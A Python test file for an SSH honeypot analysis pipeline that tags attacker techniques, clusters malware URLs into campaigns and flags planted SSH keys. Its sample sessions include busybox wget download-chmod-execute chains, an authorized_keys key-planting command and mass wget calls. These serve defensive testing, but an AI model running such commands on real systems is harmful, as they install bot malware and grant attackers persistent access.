"""What sessions amount to once they have ended: techniques, beliefs, campaigns, operators' tests, judging again."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path
from typing import Any

from sqlalchemy import select, update
from tests.analysis.samples import LOOKALIKES
from tests.pipeline.conftest import ELF, Bench
from tests.pipeline.test_line import URL, attack, listed, verdict

from urltrap.model.event import CommandEntered, Connected, Disconnected, TerminalFrames
from urltrap.model.ids import new_ulid
from urltrap.pipeline.concluding import planted_keys
from urltrap.pipeline.line import Line
from urltrap.pipeline.rejudging import rejudge
from urltrap.pipeline.stages import stages
from urltrap.store.queries import campaigns, urls
from urltrap.store.queries.beliefs import beliefs_lost
from urltrap.store.schema import facts, verdicts
from urltrap.store.schema import urls as url_table
from urltrap.store.schema_analysis import command_tags, session_marks

KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0aBGoVVhnaLCDKeiH3mDPfmlqVJ2xnmpdMkHwjNc7D x"


def talk(
    bench: Bench,
    *said: tuple[bytes, bytes],
    reason: Any = "client",
    address: str = "203.0.113.5",
    number: int = 0,
) -> str:
    """A session at a terminal: each command a second after the one before, its answer in the recording."""
    session = new_ulid(1_795_000_900_000 + number, (77_000 + number).to_bytes(10, "big"))
    at = bench.time
    bench.write(
        [
            Connected(session=session, seq=0, at=at, sensor="ssh", protocol="ssh", src_ip=address, src_port=4,
                      dst_ip="192.0.2.10", dst_port=22),
            *(CommandEntered(session=session, seq=1 + n, at=at + timedelta(seconds=n), mode="shell", text=command)
              for n, (command, _) in enumerate(said)),
            TerminalFrames(session=session, seq=90, at=at,
                           frames=[(n * 1000 + 40, "o", answer) for n, (_, answer) in enumerate(said)]),
            Disconnected(session=session, seq=91, at=at + timedelta(seconds=len(said)), reason=reason,
                         duration_ms=len(said) * 1000),
        ]
    )  # fmt: skip
    return session


def tags(bench: Bench, session: str, kind: str) -> set[str]:
    with bench.store.connect() as connection:
        query = select(command_tags.c.tag).where(
            command_tags.c.session == session, command_tags.c.kind == kind
        )
        return set(connection.execute(query).scalars())


def test_techniques_of_a_session_stand_at_its_urls(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = ELF
    session = attack(bench)
    bench.line.drain()
    assert {"T1105", "T1222.002"} <= tags(bench, session, "technique")
    found = verdict(bench)
    assert "T1105" in found.techniques
    assert (found.axes.delivery, found.axes.target, found.axes.hosting) == (
        "ssh wget",
        "linux mips",
        "raw-ip",
    )


def test_the_answer_after_which_attackers_leave_is_ranked_first(bench: Bench) -> None:
    for number in range(6):
        talk(bench, (b"uname -a", b"Linux"), (b"nproc", b"1\r\n"), number=number)
    for number in range(6, 10):
        talk(bench, (b"nproc", b"8\r\n"), (b"cd /tmp", b""), number=number)
    bench.time += timedelta(minutes=1)
    bench.line.drain()
    rows = beliefs_lost(bench.store, 10)
    assert (rows[0].check, rows[0].answer, rows[0].asked, rows[0].left, rows[0].sessions) == (
        "processor",
        b"1\r\n",
        6,
        6,
        6,
    )
    assert rows[0].seconds == 1.0 and rows[0].excess > 0
    assert b"8\r\n" not in [row.answer for row in rows]


def test_who_was_sent_away_or_tests_for_the_operator_says_nothing_of_belief(tmp_path: Path) -> None:
    bench = Bench(tmp_path, publish={"delay_minutes": [0, 0], "operator_addresses": ["203.0.113.9"]})
    try:
        talk(bench, (b"uname -a", b"Linux"), reason="timeout")
        talk(bench, (b"uname -a", b"Linux"), address="203.0.113.9", number=1)
        bench.time += timedelta(minutes=1)
        bench.line.drain()
        assert beliefs_lost(bench.store, 10) == []
    finally:
        bench.close()


def test_urls_that_belong_together_get_one_campaign_and_it_says_why(bench: Bench) -> None:
    bot = LOOKALIKES["mirai"][0]
    first, second, third, stranger = (f"http://198.51.100.{n}/bins/x" for n in (9, 10, 11, 12))
    bench.fetcher.bodies = {first: bot, second: bot, third: ELF, stranger: ELF + b"another"}
    rare = b"cd /dev/shm && busybox wget %s -O .zz; chmod 700 .zz; ./.zz scan; rm -rf .zz; echo done>.flag"
    for number, (url, line) in enumerate(
        ((first, b"busybox wget %s"), (second, rare), (third, rare), (stranger, b"busybox wget %s"))
    ):
        session = bench.visit(line % url.encode(), address=f"203.0.113.{20 + number}")
        bench.trap_fetches(url.encode(), session)
    bench.settle()
    ids = [_campaign(bench, url.encode()) for url in (first, second, third, stranger)]
    assert ids[0] == ids[1] == ids[2] != ids[3]
    (row,) = campaigns.largest(bench.store, 10)
    assert (row.id, row.urls) == (ids[0], 3)
    found = campaigns.detail(bench.store, row.id)
    assert found is not None
    assert {member.why for member in found.members} >= {
        "it served this payload", "it lies on this host", "sessions with these commands named it",
    }  # fmt: skip
    detail = urls.detail(bench.store, third)
    assert detail is not None and detail.verdict is not None and detail.verdict.campaign == ids[0]


def test_campaigns_that_turn_out_to_be_one_keep_the_older_id_and_the_younger_leads_there(
    bench: Bench,
) -> None:
    first, second = b"http://198.51.100.9/a", b"http://198.51.100.10/b"
    bench.visit(b"busybox wget " + first)
    bench.line.drain()
    bench.time += timedelta(minutes=1)
    bench.visit(b"cat x; busybox wget " + second)
    bench.line.drain()
    before = [_campaign(bench, url) for url in (first, second)]
    assert before[0] != before[1] and all(before)
    bot = LOOKALIKES["gafgyt"][0]
    bench.fetcher.bodies = {first.decode(): bot, second.decode(): bot}
    bench.time += timedelta(hours=1)
    for url in (first, second):
        bench.trap_fetches(url, bench.visit(b"busybox wget " + url))
    bench.settle()
    assert [_campaign(bench, url) for url in (first, second)] == [before[0]] * 2
    led = campaigns.detail(bench.store, before[1])
    assert led is not None and led.row.id == before[0] and led.merged_from == [before[1]]


def _campaign(bench: Bench, url: bytes) -> str:
    with bench.store.connect() as connection:
        return str(
            connection.execute(select(url_table.c.campaign).where(url_table.c.url == url.decode())).scalar()
        )


def test_planted_keys_are_marks_of_a_session_under_the_name_that_openssh_shows(bench: Bench) -> None:
    session = bench.visit(b"echo '" + KEY + b"' >> ~/.ssh/authorized_keys")
    bench.line.drain()
    with bench.store.connect() as connection:
        marks = connection.execute(
            select(session_marks.c.value).where(
                session_marks.c.session == session, session_marks.c.kind == "key"
            )
        ).scalars()
        assert list(marks) == planted_keys(KEY)
    assert len(planted_keys(KEY)) == 1 and planted_keys(KEY)[0].startswith("SHA256:")
    assert planted_keys(b"ssh-rsa AAAAB3 cut") == []


def test_the_operators_own_tests_stay_out_of_feeds_until_an_attacker_comes_with_the_same(
    tmp_path: Path,
) -> None:
    bench = Bench(
        tmp_path,
        publish={"delay_minutes": [0, 0], "operator_addresses": ["203.0.113.0/28"]},
        testing={"public_networks": ["198.51.100.0/24"]},
    )
    try:
        bench.fetcher.bodies[URL.decode()] = LOOKALIKES["mirai"][0]
        attack(bench, address="203.0.113.3")
        bench.line.drain()
        assert verdict(bench).verdict == "benign-context" and listed(bench) == []
        attack(bench, address="203.0.113.77")
        bench.line.drain()
        assert verdict(bench).verdict == "malicious-confirmed" and listed(bench) == [URL.decode()]
    finally:
        bench.close()


def test_a_payload_of_a_known_family_confirms_and_names_it(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = LOOKALIKES["mirai xored"][0]
    attack(bench)
    bench.line.drain()
    found = verdict(bench)
    assert (found.verdict, found.family, found.axes.action, found.fp_risk) == (
        "malicious-confirmed", "Mirai", "ddos-botnet", "low",
    )  # fmt: skip


def test_judging_again_changes_nothing_where_nothing_changed(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = ELF
    attack(bench)
    bench.settle()
    with bench.store.connect() as connection:
        before = connection.execute(select(verdicts.c.url_key, verdicts.c.verdict, verdicts.c.reasons)).all()
    moved = rejudge(bench.workshop, analyse=True)
    assert dict(moved) == {("malicious-observed", "malicious-observed"): 1}
    with bench.store.connect() as connection:
        assert (
            connection.execute(select(verdicts.c.url_key, verdicts.c.verdict, verdicts.c.reasons)).all()
            == before
        )


def test_new_rules_are_replayed_over_what_older_ones_said(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = ELF
    attack(bench)
    bench.settle()
    with bench.store.begin() as connection:
        connection.execute(update(url_table).values(verdict="unknown", confidence=0))
        connection.execute(update(verdicts).values(verdict="unknown", rules="1", classes=None))
    assert dict(rejudge(bench.workshop)) == {("unknown", "malicious-observed"): 1}
    assert len(bench.fetcher.requests) == 1


def test_a_store_judged_by_older_rules_is_read_and_judged_again_by_itself(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = ELF
    attack(bench)
    bench.settle()
    with bench.store.begin() as connection:
        connection.execute(update(verdicts).values(rules="1", classes=None))
        connection.execute(update(facts).where(facts.c.name == "rules").values(value="1"))
    assert verdict(bench).axes.action == "unknown"
    again = Line(bench.workshop, bench.reader, stages())
    again.step()  # what the last stage finds at the start of a pipeline is the first ones' work of the next round
    again.drain()
    assert verdict(bench).rules != "1" and verdict(bench).axes.target == "linux mips"


def test_a_source_that_names_hundreds_of_hosts_is_marked(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = ELF
    attack(bench)
    for start in range(0, 120, 40):
        named = b"; ".join(b"wget http://h%d.victims.net/x" % n for n in range(start, start + 40))
        bench.visit(named)
    bench.line.drain()
    rejudge(bench.workshop)
    found = verdict(bench)
    assert found.verdict == "suspicious" and any(reason.code == "flooding" for reason in found.reasons)
    assert listed(bench) == []
